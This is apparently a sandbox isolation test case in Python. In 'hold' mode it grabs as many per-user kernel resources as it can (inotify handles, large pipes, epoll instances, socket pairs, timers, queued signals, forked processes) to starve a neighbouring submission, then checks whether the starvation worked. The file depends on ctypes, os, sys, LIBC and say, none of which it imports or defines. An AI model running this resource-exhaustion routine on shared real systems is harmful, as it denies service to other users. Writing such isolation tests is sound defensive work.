# S63: takes all that the kernel gives one user, so that another submission gets nothing
# case look: accepted
# beside hold: wall_time_limit_exceeded
# uses: attempts.py
import fcntl
import select
import signal
import socket
import time


def take(make, most=20_000):
    held = []
    try:
        for _ in range(most):
            held.append(make())
    except OSError:
        pass
    return held


def timer():
    made = ctypes.c_void_p()
    ctypes.set_errno(0)
    if LIBC.timer_create(1, None, ctypes.byref(made)) != 0:
        raise OSError(ctypes.get_errno(), "timer_create")
    return made


def watch():
    if (fd := LIBC.inotify_init1(0)) < 0:
        raise OSError(ctypes.get_errno(), "inotify_init1")
    return fd


def wide_pipe():
    ends = os.pipe()
    fcntl.fcntl(ends[0], fcntl.F_SETPIPE_SZ, 1 << 18)
    return ends


def process():
    if (pid := os.fork()) == 0:
        time.sleep(60)
        os._exit(0)
    return pid


if sys.argv[1] == "hold":
    held = [take(watch, 100), take(wide_pipe, 40), take(select.epoll, 10), take(socket.socketpair, 10), take(timer)]
    signal.pthread_sigmask(signal.SIG_BLOCK, set(signal.Signals))
    LIBC.sigqueue.argtypes = [ctypes.c_int, ctypes.c_int, ctypes.c_void_p]
    for _ in range(50_000):
        if LIBC.sigqueue(os.getpid(), int(signal.SIGRTMIN), None) != 0:
            break
    held.append(take(process, 1000))
    time.sleep(60)
end = time.monotonic() + 1.5
while time.monotonic() < end:
    for make in (timer, watch, wide_pipe, select.epoll, socket.socketpair):
        try:
            made = make()
        except OSError as error:
            say("SUCCEEDED", "in starving a neighbour of", make.__name__, error)
            continue
        if make is watch:
            os.close(made)
        elif make is wide_pipe:
            os.close(made[0])
            os.close(made[1])
        elif make is timer:
            LIBC.timer_delete(made)
    pid = os.fork()
    if pid == 0:
        os._exit(0)
    os.waitpid(pid, 0)
    time.sleep(0.05)
print("done")
